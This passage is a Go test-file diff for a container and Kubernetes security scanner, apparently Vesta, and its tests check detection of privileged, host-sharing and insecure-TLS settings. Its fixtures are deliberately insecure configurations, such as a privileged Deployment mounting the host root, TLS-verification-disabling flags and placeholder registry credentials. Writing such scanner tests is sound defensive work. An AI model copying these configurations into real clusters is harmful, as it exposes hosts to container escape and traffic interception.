+func TestRedactThreats(t *testing.T) {
+	th := &threat{
+		Param:     "sidecar name: app | env",
+		Value:     "DB_PASSWORD: s3cret",
+		Type:      "Sidecar Env",
+		Reference: "https://example.com/secrets",
+		Severity:  "high",
+	}
+
+	ctx := context.WithValue(context.Background(), "redact", []string{"value", "Reference", "unknown"})
+	redactThreats(redactFields(ctx), []*threat{th})
+
+	if th.Value != "****: ****" {
+		t.Errorf("redacted value = %q", th.Value)
+	}
+
+	if th.Reference != "****://****/****" {
+		t.Errorf("redacted reference = %q", th.Reference)
+	}
+
+	// Fields not selected, type and severity are kept
+	if th.Param != "sidecar name: app | env" || th.Type != "Sidecar Env" || th.Severity != "high" {
+		t.Errorf("unselected fields are redacted: %+v", th)
+	}
+}
+
+func TestCheckNoNewPrivileges(t *testing.T) {
+	tests := []struct {
+		name       string
+		user       string
+		opts       []string
+		privileged bool
+		want       string
+	}{
+		{name: "root", user: "", want: "medium"},
+		{name: "non-root", user: "1000:1000", want: "low"},
+		{name: "enabled", opts: []string{"no-new-privileges:true"}},
+		{name: "enabled by equal sign", opts: []string{"seccomp=unconfined", "no-new-privileges=true"}},
+		{name: "disabled", user: "app", opts: []string{"no-new-privileges:false"}, want: "low"},
+		{name: "privileged", privileged: true},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			config := &types.ContainerJSON{
+				ContainerJSONBase: &types.ContainerJSONBase{
+					HostConfig: &containertypes.HostConfig{SecurityOpt: tt.opts, Privileged: tt.privileged},
+				},
+				Config: &containertypes.Config{User: tt.user},
+			}
+
+			got := ""
+			if ok, tlist := checkNoNewPrivileges(config); ok {
+				got = tlist[0].Severity
+			}
+
+			if got != tt.want {
+				t.Errorf("checkNoNewPrivileges() = %q, want %q", got, tt.want)
+			}
+		})
+	}
+}
+
+func TestFindingStream(t *testing.T) {
+	events := []FindingEvent{}
+	ctx := context.WithValue(context.Background(), "redact", []string{"Value"})
+
+	fs := newFindingStream(ctx, func(ev FindingEvent) {
+		events = append(events, ev)
+	})
+
+	th := &threat{Param: "pid", Value: "host", Severity: "high"}
+
+	var wg sync.WaitGroup
+	for i := 0; i < 10; i++ {
+		wg.Add(1)
+		go func() {
+			defer wg.Done()
+			fs.emit("container: web (0123456789ab)", "checkPid", []*threat{th})
+		}()
+	}
+	wg.Wait()
+
+	if len(events) != 10 {
+		t.Fatalf("emitted %d findings, want 10", len(events))
+	}
+
+	if events[0].Check != "checkPid" || events[0].Threat.Value != "****" {
+		t.Errorf("unexpected finding: %+v", events[0].Threat)
+	}
+
+	// The threat of scan is not redacted by the stream
+	if th.Value != "host" {
+		t.Errorf("threat of scan is changed: %s", th.Value)
+	}
+
+	// Stream without callback is disabled
+	newFindingStream(ctx, nil).emit("cluster", "checkPid", []*threat{th})
+}
+
+func TestCheckKubeconfigClusters(t *testing.T) {
+	kubeconfig := clientcmdapi.NewConfig()
+	kubeconfig.Clusters["production"] = &clientcmdapi.Cluster{Server: "https://10.0.0.1:6443", InsecureSkipTLSVerify: true}
+	kubeconfig.Clusters["staging"] = &clientcmdapi.Cluster{Server: "https://10.0.0.2:6443", InsecureSkipTLSVerify: true}
+	kubeconfig.Clusters["dev"] = &clientcmdapi.Cluster{Server: "https://10.0.0.3:6443"}
+
+	tlist := checkKubeconfigClusters("/root/.kube/config", kubeconfig, "https://10.0.0.1:6443")
+	if len(tlist) != 2 {
+		t.Fatalf("checkKubeconfigClusters() found %d, want 2", len(tlist))
+	}
+
+	if tlist[0].Param != "kubeconfig: /root/.kube/config | cluster: production" || tlist[0].Severity != "high" {
+		t.Errorf("unexpected finding of cluster in use: %s %s", tlist[0].Param, tlist[0].Severity)
+	}
+
+	if tlist[1].Severity != "medium" {
+		t.Errorf("severity of unused cluster = %s, want medium", tlist[1].Severity)
+	}
+}
+
+func TestCheckPodInsecureTLS(t *testing.T) {
+	tests := []struct {
+		name      string
+		container v1.Container
+		want      bool
+	}{
+		{name: "metrics-server", container: v1.Container{Args: []string{"--cert-dir=/tmp", "--kubelet-insecure-tls"}}, want: true},
+		{name: "kubectl", container: v1.Container{Command: []string{"kubectl", "--insecure-skip-tls-verify=true", "apply"}}, want: true},
+		{name: "verify enabled", container: v1.Container{Args: []string{"--insecure-skip-tls-verify=false"}}},
+		{name: "env", container: v1.Container{Env: []v1.EnvVar{{Name: "NODE_TLS_REJECT_UNAUTHORIZED", Value: "0"}}}, want: true},
+		{name: "env verify", container: v1.Container{Env: []v1.EnvVar{{Name: "GIT_SSL_NO_VERIFY", Value: "false"}}}},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			if got, _ := checkPodInsecureTLS(tt.container); got != tt.want {
+				t.Errorf("checkPodInsecureTLS() = %v, want %v", got, tt.want)
+			}
+		})
+	}
+}
+
+func TestCheckUsernsMode(t *testing.T) {
+	config := &types.ContainerJSON{
+		ContainerJSONBase: &types.ContainerJSONBase{
+			HostConfig: &containertypes.HostConfig{},
+		},
+	}
+
+	if ok, _ := checkUsernsMode(config, true); ok {
+		t.Errorf("checkUsernsMode() found the default userns mode")
+	}
+
+	config.HostConfig.UsernsMode = "host"
+
+	_, tlist := checkUsernsMode(config, false)
+	if len(tlist) != 1 || tlist[0].Severity != "low" {
+		t.Errorf("checkUsernsMode() without userns-remap = %v", tlist)
+	}
+
+	_, tlist = checkUsernsMode(config, true)
+	if len(tlist) != 1 || tlist[0].Severity != "high" || tlist[0].Value != "userns: host | daemon: userns-remap" {
+		t.Errorf("checkUsernsMode() with userns-remap = %+v", tlist[0])
+	}
+}
+
+func TestRecordGap(t *testing.T) {
+	ks := &KScanner{}
+
+	forbidden := apierrors.NewForbidden(schema.GroupResource{Resource: "secrets"}, "",
+		fmt.Errorf(`User "system:serviceaccount:default:vesta" cannot list resource "secrets" in API group "" in the namespace "default"`))
+
+	for _, ns := range []string{"default", "kube-public"} {
+		if !ks.recordGap("checkSecret", ns, forbidden) {
+			t.Fatalf("recordGap() ignored the forbidden error")
+		}
+	}
+
+	if ks.recordGap("checkPod", "default", fmt.Errorf("connection refused")) {
+		t.Errorf("recordGap() recorded the error which is not forbidden")
+	}
+
+	if len(ks.Coverage) != 1 {
+		t.Fatalf("recorded %d gaps, want 1", len(ks.Coverage))
+	}
+
+	gap := ks.Coverage[0]
+	if gap.Permission != "list secrets" || gap.Scope() != "namespaces: default, kube-public" {
+		t.Errorf("unexpected gap: %s, %s", gap.Permission, gap.Scope())
+	}
+
+	clusterForbidden := apierrors.NewForbidden(schema.GroupResource{Group: "rbac.authorization.k8s.io", Resource: "clusterroles"}, "",
+		fmt.Errorf(`User "x" cannot list resource "clusterroles" in API group "rbac.authorization.k8s.io" at the cluster scope`))
+	if getNeededPermission(clusterForbidden) != "list clusterroles.rbac.authorization.k8s.io" {
+		t.Errorf("getNeededPermission() = %s", getNeededPermission(clusterForbidden))
+	}
+}
+
+func TestRecordSwallowed(t *testing.T) {
+	ks := &KScanner{}
+
+	forbidden := apierrors.NewForbidden(schema.GroupResource{Resource: "configmaps"}, "",
+		fmt.Errorf(`User "x" cannot list resource "configmaps" in API group "" in the namespace "default"`))
+
+	// The copy of the scanner shares the errors swallowed by the check of value receiver
+	ks.startCheck()
+	cp := *ks
+	cp.run.swallow(forbidden)
+	cp.run.swallow(fmt.Errorf("connection refused"))
+	cp.run.swallow(nil)
+
+	if !ks.recordSwallowed("checkPod", "default") {
+		t.Fatalf("recordSwallowed() ignored the swallowed forbidden error")
+	}
+
+	// The same error returned by the check is not recorded twice
+	ks.recordGap("checkPod", "default", forbidden)
+
+	if len(ks.Coverage) != 1 || ks.Coverage[0].Permission != "list configmaps" || ks.Coverage[0].Scope() != "namespaces: default" {
+		t.Fatalf("unexpected coverage: %+v", ks.Coverage)
+	}
+
+	ks.startCheck()
+	if ks.recordSwallowed("checkService", "default") {
+		t.Errorf("recordSwallowed() recorded the check without forbidden errors")
+	}
+
+	// Outside of the runners the errors are not kept
+	ks.run.swallow(forbidden)
+}
+
+func TestCheckPtrace(t *testing.T) {
+	tests := []struct {
+		name    string
+		capAdd  []string
+		pidMode containertypes.PidMode
+		want    string
+	}{
+		{name: "default capabilities", pidMode: "host"},
+		{name: "private pid", capAdd: []string{"SYS_PTRACE"}, want: "low"},
+		{name: "host pid", capAdd: []string{"CAP_SYS_PTRACE"}, pidMode: "host", want: "high"},
+		{name: "shared pid", capAdd: []string{"ALL"}, pidMode: "container:0123456789ab", want: "high"},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			config := &types.ContainerJSON{
+				ContainerJSONBase: &types.ContainerJSONBase{
+					HostConfig: &containertypes.HostConfig{CapAdd: tt.capAdd, PidMode: tt.pidMode},
+				},
+			}
+
+			got := ""
+			if ok, tlist := checkPtrace(config); ok {
+				got = tlist[0].Severity
+			}
+
+			if got != tt.want {
+				t.Errorf("checkPtrace() = %q, want %q", got, tt.want)
+			}
+		})
+	}
+}
+
+func TestCheckPortBindings(t *testing.T) {
+	config := &types.ContainerJSON{
+		ContainerJSONBase: &types.ContainerJSONBase{
+			HostConfig: &containertypes.HostConfig{
+				PortBindings: nat.PortMap{
+					"80/tcp":   {{HostPort: "8080"}},
+					"6379/tcp": {{HostIP: "0.0.0.0", HostPort: "6379"}},
+					"5432/tcp": {{HostIP: "127.0.0.1", HostPort: "5432"}},
+				},
+			},
+		},
+	}
+
+	ok, tlist := checkPortBindings(config)
+	if !ok || len(tlist) != 1 || tlist[0].Value != "0.0.0.0:6379:6379/tcp" {
+		t.Errorf("checkPortBindings() = %v", tlist)
+	}
+}
+
+func TestAnalyzeManifests(t *testing.T) {
+	rendered := `---
+# Source: app/templates/serviceaccount.yaml
+---
+# Source: app/templates/crd.yaml
+apiVersion: example.com/v1
+kind: Widget
+metadata:
+  name: widget
+---
+# Source: app/templates/deployment.yaml
+apiVersion: apps/v1
+kind: Deployment
+metadata:
+  name: web
+  namespace: shop
+spec:
+  selector:
+    matchLabels:
+      app: web
+  template:
+    metadata:
+      labels:
+        app: web
+    spec:
+      containers:
+      - name: web
+        image: nginx:1.23
+        securityContext:
+          privileged: true
+      volumes:
+      - name: root
+        hostPath:
+          path: /
+          type: Directory
+---
+apiVersion: v1
+kind: List
+items:
+- apiVersion: v1
+  kind: ConfigMap
+  metadata:
+    name: settings
+  data:
+    mode: production
+`
+	objects, err := decodeManifests(strings.NewReader(rendered))
+	if err != nil {
+		t.Fatalf("decodeManifests() error = %v", err)
+	}
+
+	if len(objects) != 2 {
+		t.Fatalf("decodeManifests() decoded %d objects, want 2", len(objects))
+	}
+
+	manifests := []*Manifest{}
+	for _, obj := range objects {
+		manifests = append(manifests, &Manifest{Source: "rendered.yaml", Object: obj})
+	}
+
+	ks := &KScanner{}
+	if err := ks.AnalyzeManifests(context.Background(), manifests); err != nil {
+		t.Fatalf("AnalyzeManifests() error = %v", err)
+	}
+
+	if len(ks.VulnContainers) != 1 {
+		t.Fatalf("AnalyzeManifests() found %d workloads, want 1", len(ks.VulnContainers))
+	}
+
+	c := ks.VulnContainers[0]
+	if c.OwnerKind != "Deployment" || c.Namepsace != "shop" || c.Threats[0].Severity != "critical" {
+		t.Errorf("unexpected workload: %s %s/%s", c.OwnerKind, c.Namepsace, c.OwnerName)
+	}
+}
+
+func TestGetSensitiveImages(t *testing.T) {
+	tests := []struct {
+		images        []string
+		want          []string
+		wantDashboard bool
+	}{
+		{images: []string{"redis:7.0"}, want: []string{"redis:7.0"}},
+		{images: []string{"docker.io/bitnami/redis@sha256:abc"}, want: []string{"docker.io/bitnami/redis@sha256:abc"}},
+		{images: []string{"oliver006/redis_exporter", "myredis", "registry.example.com:5000/etcd-backup:1.0"}, want: []string{}},
+		{images: []string{"redis-proxy", "localhost:5000/postgres:15", "grafana/grafana:10.0"},
+			want: []string{"localhost:5000/postgres:15", "grafana/grafana:10.0"}},
+		{images: []string{"kubernetesui/dashboard:v2.7.0", "kubernetesui/metrics-scraper:v1.0.8"},
+			want: []string{"kubernetesui/dashboard:v2.7.0"}, wantDashboard: true},
+		{images: []string{"k8s.gcr.io/kubernetes-dashboard-amd64:v1.10.1"},
+			want: []string{"k8s.gcr.io/kubernetes-dashboard-amd64:v1.10.1"}, wantDashboard: true},
+		{images: []string{"example/kubernetes-dashboard-exporter"}, want: []string{}},
+	}
+
+	for _, tt := range tests {
+		podSpec := v1.PodSpec{}
+		for _, image := range tt.images {
+			podSpec.Containers = append(podSpec.Containers, v1.Container{Image: image})
+		}
+
+		got := getSensitiveImages(podSpec)
+		if !reflect.DeepEqual(got, tt.want) {
+			t.Errorf("getSensitiveImages(%v) = %v, want %v", tt.images, got, tt.want)
+		}
+
+		if hasDashboardImage(got) != tt.wantDashboard {
+			t.Errorf("hasDashboardImage(%v) = %v, want %v", got, !tt.wantDashboard, tt.wantDashboard)
+		}
+	}
+}
+
+func TestGetHostPathPVThreat(t *testing.T) {
+	hostPathPV := func(path string, phase v1.PersistentVolumePhase) v1.PersistentVolume {
+		return v1.PersistentVolume{
+			ObjectMeta: metav1.ObjectMeta{Name: "data"},
+			Spec: v1.PersistentVolumeSpec{
+				PersistentVolumeSource: v1.PersistentVolumeSource{
+					HostPath: &v1.HostPathVolumeSource{Path: path},
+				},
+			},
+			Status: v1.PersistentVolumeStatus{Phase: phase},
+		}
+	}
+
+	tests := []struct {
+		name string
+		pv   v1.PersistentVolume
+		want string
+	}{
+		{name: "root bound", pv: hostPathPV("/", v1.VolumeBound), want: "critical"},
+		{name: "docker socket", pv: hostPathPV("/var/run/docker.sock", v1.VolumeBound), want: "critical"},
+		{name: "root available", pv: hostPathPV("/etc/", v1.VolumeAvailable), want: "medium"},
+		{name: "data bound", pv: hostPathPV("/mnt/data", v1.VolumeBound), want: "medium"},
+		{name: "data released", pv: hostPathPV("/mnt/data", v1.VolumeReleased), want: "low"},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			th := getHostPathPVThreat(tt.pv)
+			if th == nil {
+				t.Fatalf("getHostPathPVThreat() = nil")
+			}
+
+			if th.Severity != tt.want || th.Param != "data" || th.Value != tt.pv.Spec.HostPath.Path {
+				t.Errorf("getHostPathPVThreat() = %s %s %s, want %s", th.Param, th.Value, th.Severity, tt.want)
+			}
+		})
+	}
+
+	if th := getHostPathPVThreat(v1.PersistentVolume{}); th != nil {
+		t.Errorf("getHostPathPVThreat() found the volume without hostPath")
+	}
+}
+
+func TestCheckIPC(t *testing.T) {
+	tests := []struct {
+		ipcMode containertypes.IpcMode
+		want    string
+	}{
+		{ipcMode: "host", want: "critical"},
+		{ipcMode: "container:0123456789ab", want: "high"},
+		{ipcMode: "private"},
+		{ipcMode: "shareable"},
+		{ipcMode: ""},
+	}
+
+	for _, tt := range tests {
+		config := &types.ContainerJSON{
+			ContainerJSONBase: &types.ContainerJSONBase{
+				HostConfig: &containertypes.HostConfig{IpcMode: tt.ipcMode},
+			},
+		}
+
+		got := ""
+		if ok, tlist := checkIPC(config); ok {
+			got = tlist[0].Severity
+			if tlist[0].Value != string(tt.ipcMode) {
+				t.Errorf("checkIPC() value = %s, want %s", tlist[0].Value, tt.ipcMode)
+			}
+		}
+
+		if got != tt.want {
+			t.Errorf("checkIPC(%s) = %q, want %q", tt.ipcMode, got, tt.want)
+		}
+	}
+}
+
+func TestCheckRuntimeFeatures(t *testing.T) {
+	tests := []struct {
+		name         string
+		hostConfig   containertypes.HostConfig
+		wantParam    string
+		wantSeverity string
+		wantDescribe string
+	}{
+		{
+			name:         "allDevices",
+			hostConfig:   containertypes.HostConfig{Resources: containertypes.Resources{DeviceCgroupRules: []string{"a *:* rwm"}}},
+			wantParam:    "device-cgroup-rule",
+			wantSeverity: "high",
+			wantDescribe: "all the devices",
+		},
+		{
+			name:         "blockDevices",
+			hostConfig:   containertypes.HostConfig{Resources: containertypes.Resources{DeviceCgroupRules: []string{"b *:* r"}}},
+			wantParam:    "device-cgroup-rule",
+			wantSeverity: "high",
+			wantDescribe: "host disks can be read",
+		},
+		{
+			name:         "characterDevices",
+			hostConfig:   containertypes.HostConfig{Resources: containertypes.Resources{DeviceCgroupRules: []string{"c *:* rwm"}}},
+			wantParam:    "device-cgroup-rule",
+			wantSeverity: "medium",
+			wantDescribe: "all the character devices",
+		},
+		{
+			name:       "mknodOnly",
+			hostConfig: containertypes.HostConfig{Resources: containertypes.Resources{DeviceCgroupRules: []string{"b *:* m"}}},
+		},
+		{
+			name:       "specificDevice",
+			hostConfig: containertypes.HostConfig{Resources: containertypes.Resources{DeviceCgroupRules: []string{"c 1:3 rwm"}}},
+		},
+		{
+			name: "privileged",
+			hostConfig: containertypes.HostConfig{Privileged: true,
+				Resources: containertypes.Resources{DeviceCgroupRules: []string{"a *:* rwm"}}},
+			wantParam:    "device-cgroup-rule",
+			wantSeverity: "warning",
+			wantDescribe: "ignored in privileged mode",
+		},
+		{
+			name:         "legacyLinks",
+			hostConfig:   containertypes.HostConfig{NetworkMode: "default", Links: []string{"/db:/web/db"}},
+			wantParam:    "link",
+			wantSeverity: "warning",
+			wantDescribe: "default bridge",
+		},
+		{
+			name:       "userDefinedNetworkLinks",
+			hostConfig: containertypes.HostConfig{NetworkMode: "backend", Links: []string{"/db:/web/db"}},
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			hostConfig := tt.hostConfig
+			config := &types.ContainerJSON{
+				ContainerJSONBase: &types.ContainerJSONBase{HostConfig: &hostConfig},
+			}
+
+			ok, tlist := checkRuntimeFeatures(config, "1.6.8", "20.10.17")
+			if tt.wantParam == "" {
+				if ok {
+					t.Errorf("checkRuntimeFeatures() = %v, want none", tlist)
+				}
+				return
+			}
+
+			if !ok || len(tlist) != 1 {
+				t.Fatalf("checkRuntimeFeatures() = %v, want one threat", tlist)
+			}
+
+			th := tlist[0]
+			if th.Param != tt.wantParam || th.Severity != tt.wantSeverity || !strings.Contains(th.Describe, tt.wantDescribe) {
+				t.Errorf("checkRuntimeFeatures() = %s %s %q, want %s %s %q",
+					th.Param, th.Severity, th.Describe, tt.wantParam, tt.wantSeverity, tt.wantDescribe)
+			}
+		})
+	}
+}
+
+func TestCheckPullSecrets(t *testing.T) {
+	dockerConfig := func(auth string) map[string][]byte {
+		return map[string][]byte{
+			v1.DockerConfigJsonKey: []byte(`{"auths":{"registry.example.com":` + auth + `}}`),
+		}
+	}
+
+	password := dockerConfig(`{"auth":"` + base64.StdEncoding.EncodeToString([]byte("deploy:s3cret")) + `"}`)
+	token := dockerConfig(`{"username":"oauth2accesstoken","password":"ya29.token"}`)
+
+	ks := &KScanner{}
+	for i := 0; i < 3; i++ {
+		ns := fmt.Sprintf("team-%d", i)
+		pods := []v1.Pod{
+			{Spec: v1.PodSpec{ImagePullSecrets: []v1.LocalObjectReference{{Name: "regcred"}}}},
+			{Spec: v1.PodSpec{}},
+		}
+
+		ks.recordPullSecret(v1.Secret{ObjectMeta: metav1.ObjectMeta{Name: "regcred", Namespace: ns},
+			Type: v1.SecretTypeDockerConfigJson, Data: password}, pods)
+	}
+
+	ks.recordPullSecret(v1.Secret{ObjectMeta: metav1.ObjectMeta{Name: "gcr", Namespace: "default"},
+		Type: v1.SecretTypeDockerConfigJson, Data: token}, nil)
+
+	if err := ks.checkPullSecrets(); err != nil {
+		t.Fatalf("checkPullSecrets() error = %v", err)
+	}
+
+	if len(ks.VulnConfigures) != 1 {
+		t.Fatalf("checkPullSecrets() found %d, want 1", len(ks.VulnConfigures))
+	}
+
+	th := ks.VulnConfigures[0]
+	if th.Severity != "high" || !strings.Contains(th.Param, "Pods: 3 | Namespaces: 3") {
+		t.Errorf("unexpected finding: %s %s", th.Param, th.Severity)
+	}
+
+	if strings.Contains(th.Param+th.Value+th.Describe, "s3cret") {
+		t.Errorf("credentials are printed")
+	}
+}
+
+func TestSplitExcludedImages(t *testing.T) {
+	image := func(id string, tags ...string) *_image.ImageInfo {
+		return &_image.ImageInfo{Summary: types.ImageSummary{ID: id, RepoTags: tags}}
+	}
+
+	images := []*_image.ImageInfo{
+		image("sha256:aaaa", "vendor/agent:1.2"),
+		image("sha256:bbbb", "registry.example.com/base:22.04"),
+		image("sha256:cccc", "nginx:latest"),
+		image("sha256:dddd"),
+	}
+
+	included, excluded := splitExcludedImages(images, []string{"vendor/*", "registry.example.com/base", "sha256:dddd"})
+	if len(excluded) != 3 || len(included) != 1 || included[0].Summary.ID != "sha256:cccc" {
+		t.Errorf("splitExcludedImages() included %d, excluded %d", len(included), len(excluded))
+	}
+
+	included, excluded = splitExcludedImages(images, nil)
+	if len(included) != 4 || len(excluded) != 0 {
+		t.Errorf("splitExcludedImages() without patterns excluded %d", len(excluded))
+	}
+}
+
+func TestCheckRootGroup(t *testing.T) {
+	tests := []struct {
+		user     string
+		groupAdd []string
+		want     string
+	}{
+		{user: "1000:0", want: "medium"},
+		{user: "app:root", want: "medium"},
+		{user: "", groupAdd: []string{"0"}, want: "low"},
+		{user: "1000:1000"},
+		{user: "1000", groupAdd: []string{"docker"}},
+	}
+
+	for _, tt := range tests {
+		config := &types.ContainerJSON{
+			ContainerJSONBase: &types.ContainerJSONBase{
+				HostConfig: &containertypes.HostConfig{GroupAdd: tt.groupAdd},
+			},
+			Config: &containertypes.Config{User: tt.user},
+		}
+
+		got := ""
+		if ok, tlist := checkRootGroup(config); ok {
+			got = tlist[0].Severity
+		}
+
+		if got != tt.want {
+			t.Errorf("checkRootGroup(%s, %v) = %q, want %q", tt.user, tt.groupAdd, got, tt.want)
+		}
+	}
+}
+
+func TestCheckPodRootGroup(t *testing.T) {
+	id := func(i int64) *int64 { return &i }
+
+	tests := []struct {
+		name      string
+		podSC     *v1.PodSecurityContext
+		containSC *v1.SecurityContext
+		want      string
+	}{
+		{name: "non-root user with root group", podSC: &v1.PodSecurityContext{RunAsUser: id(1000), RunAsGroup: id(0)}, want: "medium"},
+		{name: "fsGroup", podSC: &v1.PodSecurityContext{FSGroup: id(0)}, want: "low"},
+		{name: "supplemental groups", podSC: &v1.PodSecurityContext{RunAsUser: id(1000), SupplementalGroups: []int64{2000, 0}}, want: "medium"},
+		{name: "container override", podSC: &v1.PodSecurityContext{RunAsGroup: id(0)},
+			containSC: &v1.SecurityContext{RunAsGroup: id(3000)}},
+		{name: "unset"},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			container := v1.Container{Name: "app", SecurityContext: tt.containSC}
+			podSpec := v1.PodSpec{SecurityContext: tt.podSC, Containers: []v1.Container{container}}
+
+			got := ""
+			if ok, tlist := checkPodRootGroup(container, podSpec); ok {
+				got = tlist[0].Severity
+			}
+
+			if got != tt.want {
+				t.Errorf("checkPodRootGroup() = %q, want %q", got, tt.want)
+			}
+		})
+	}
+}
+
+func TestGetDisruptionBudgetThreats(t *testing.T) {
+	pod := func(name, priority string) v1.Pod {
+		return v1.Pod{ObjectMeta: metav1.ObjectMeta{Name: name, Labels: map[string]string{"app": "web"}},
+			Spec: v1.PodSpec{PriorityClassName: priority}}
+	}
+	pods := []v1.Pod{pod("web-1", ""), pod("web-2", ""), pod("web-3", "")}
+	ownerOf := func(pod v1.Pod) string { return "Deployment/web" }
+
+	budget := func(minAvailable, maxUnavailable *intstr.IntOrString) policyv1.PodDisruptionBudget {
+		return policyv1.PodDisruptionBudget{ObjectMeta: metav1.ObjectMeta{Name: "web"},
+			Spec: policyv1.PodDisruptionBudgetSpec{
+				Selector:       &metav1.LabelSelector{MatchLabels: map[string]string{"app": "web"}},
+				MinAvailable:   minAvailable,
+				MaxUnavailable: maxUnavailable,
+			}}
+	}
+
+	intOf := func(i int) *intstr.IntOrString { v := intstr.FromInt(i); return &v }
+	strOf := func(s string) *intstr.IntOrString { v := intstr.FromString(s); return &v }
+
+	tests := []struct {
+		name  string
+		pdb   policyv1.PodDisruptionBudget
+		pods  []v1.Pod
+		value string
+	}{
+		{name: "minAvailable of all replicas", pdb: budget(intOf(3), nil), pods: pods, value: "minAvailable: 3 | pods: 3"},
+		{name: "minAvailable of percent", pdb: budget(strOf("100%"), nil), pods: pods, value: "minAvailable: 100% | pods: 3"},
+		{name: "maxUnavailable of zero", pdb: budget(nil, intOf(0)), pods: pods, value: "maxUnavailable: 0 | pods: 3"},
+		{name: "one disruption allowed", pdb: budget(intOf(2), nil), pods: pods},
+		{name: "rounded up percent", pdb: budget(nil, strOf("10%")), pods: pods},
+		{name: "critical workload", pdb: budget(intOf(1), nil), pods: []v1.Pod{pod("dns", "system-cluster-critical")}},
+		{name: "no matched pod", pdb: budget(intOf(1), nil)},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			tlist := getDisruptionBudgetThreats(tt.pdb, tt.pods, ownerOf)
+			if tt.value == "" {
+				if len(tlist) > 0 {
+					t.Errorf("getDisruptionBudgetThreats() = %s, want none", tlist[0].Value)
+				}
+				return
+			}
+
+			if len(tlist) != 1 || tlist[0].Value != tt.value {
+				t.Fatalf("getDisruptionBudgetThreats() found %d, want %s", len(tlist), tt.value)
+			}
+			if !strings.Contains(tlist[0].Param, "workload: Deployment/web") {
+				t.Errorf("getDisruptionBudgetThreats() param = %s", tlist[0].Param)
+			}
+		})
+	}
+}
+
+func TestGetSharedVolumeThreats(t *testing.T) {
+	fsGroup := int64(2000)
+	pod := func(name, claim string, readOnly bool) v1.Pod {
+		return v1.Pod{
+			ObjectMeta: metav1.ObjectMeta{Name: name},
+			Spec: v1.PodSpec{
+				SecurityContext: &v1.PodSecurityContext{FSGroup: &fsGroup},
+				Volumes: []v1.Volume{{Name: "data", VolumeSource: v1.VolumeSource{
+					PersistentVolumeClaim: &v1.PersistentVolumeClaimVolumeSource{ClaimName: claim}}}},
+				Containers: []v1.Container{{Name: "app", VolumeMounts: []v1.VolumeMount{{Name: "data", ReadOnly: readOnly}}}},
+			},
+		}
+	}
+
+	ownerOf := func(pod v1.Pod) string {
+		return strings.Split(pod.Name, "-")[0]
+	}
+
+	pods := []v1.Pod{
+		pod("web-1", "shared", false),
+		pod("web-2", "shared", false),
+		pod("worker-1", "shared", false),
+		pod("report-1", "logs", true),
+		pod("ingest-1", "logs", false),
+		pod("backup-1", "archive", true),
+		pod("restore-1", "archive", true),
+	}
+
+	tlist := getSharedVolumeThreats("default", pods, ownerOf)
+	if len(tlist) != 2 {
+		t.Fatalf("getSharedVolumeThreats() found %d, want 2", len(tlist))
+	}
+
+	if !strings.HasPrefix(tlist[0].Param, "PersistentVolumeClaim: logs") || tlist[0].Severity != "low" {
+		t.Errorf("unexpected finding of read-only sharing: %s %s", tlist[0].Param, tlist[0].Severity)
+	}
+
+	if tlist[1].Severity != "medium" || tlist[1].Value != "web (rw), worker (rw)" {
+		t.Errorf("unexpected finding of writable sharing: %s %s", tlist[1].Value, tlist[1].Severity)
+	}
+}
+
+func TestCheckRestarts(t *testing.T) {
+	config := &types.ContainerJSON{
+		ContainerJSONBase: &types.ContainerJSONBase{
+			RestartCount: 12,
+			State:        &types.ContainerState{ExitCode: 137, OOMKilled: true},
+		},
+	}
+
+	ok, tlist := checkRestarts(config)
+	if !ok || tlist[0].Severity != "low" {
+		t.Fatalf("checkRestarts() should flag the crash loop")
+	}
+
+	if tlist[0].Value != "last exit: OOMKilled, exit code 137" {
+		t.Errorf("checkRestarts() value = %s", tlist[0].Value)
+	}
+
+	// Value is unchanged by another restart
+	config.RestartCount = 13
+	if _, again := checkRestarts(config); again[0].Value != tlist[0].Value || again[0].Describe == tlist[0].Describe {
+		t.Errorf("checkRestarts() value = %s after another restart", again[0].Value)
+	}
+
+	config.RestartCount = 1
+	if ok, _ := checkRestarts(config); ok {
+		t.Errorf("checkRestarts() should pass the container restarted once")
+	}
+}
+
+func TestCheckPodRestarts(t *testing.T) {
+	pod := v1.Pod{
+		Status: v1.PodStatus{
+			ContainerStatuses: []v1.ContainerStatus{
+				{Name: "app", RestartCount: 8,
+					State: v1.ContainerState{Waiting: &v1.ContainerStateWaiting{Reason: "CrashLoopBackOff"}},
+					LastTerminationState: v1.ContainerState{
+						Terminated: &v1.ContainerStateTerminated{Reason: "Error", ExitCode: 139}}},
+				{Name: "proxy", RestartCount: 0},
+			},
+		},
+	}
+
+	ok, tlist := checkPodRestarts(pod)
+	if !ok || len(tlist) != 1 {
+		t.Fatalf("checkPodRestarts() found %d, want 1", len(tlist))
+	}
+
+	if tlist[0].Value != "last exit: Error (exit code 139)" {
+		t.Errorf("checkPodRestarts() value = %s", tlist[0].Value)
+	}
+
+	// Replicas restarted a different number of times collapse into one
+	pod.Status.ContainerStatuses[0].RestartCount = 5
+	_, replica := checkPodRestarts(pod)
+	if getFingerprint("default", "Deployment", "web", replica) != getFingerprint("default", "Deployment", "web", tlist) {
+		t.Errorf("getFingerprint() differs by the restart count")
+	}
+}
+
+func TestGetNodePostureThreats(t *testing.T) {
+	failSwapOn := false
+
+	node := v1.Node{ObjectMeta: metav1.ObjectMeta{Name: "worker-1"}}
+
+	kc := &kubeletConfiguration{FailSwapOn: &failSwapOn, AllowedUnsafeSysctls: []string{"kernel.msg*"}}
+	kc.MemorySwap.SwapBehavior = "UnlimitedSwap"
+
+	got := map[string]string{}
+	for _, th := range getNodePostureThreats(node, kc) {
+		got[th.Param] = th.Severity
+	}
+
+	want := map[string]string{
+		"node name: worker-1 | swap":                  "medium",
+		"node name: worker-1 | protectKernelDefaults": "low",
+		"node name: worker-1 | allowedUnsafeSysctls":  "medium",
+	}
+	if !reflect.DeepEqual(got, want) {
+		t.Errorf("getNodePostureThreats() = %v, want %v", got, want)
+	}
+
+	// The kubelet configuration is not accessible
+	if tlist := getNodePostureThreats(node, nil); len(tlist) != 0 {
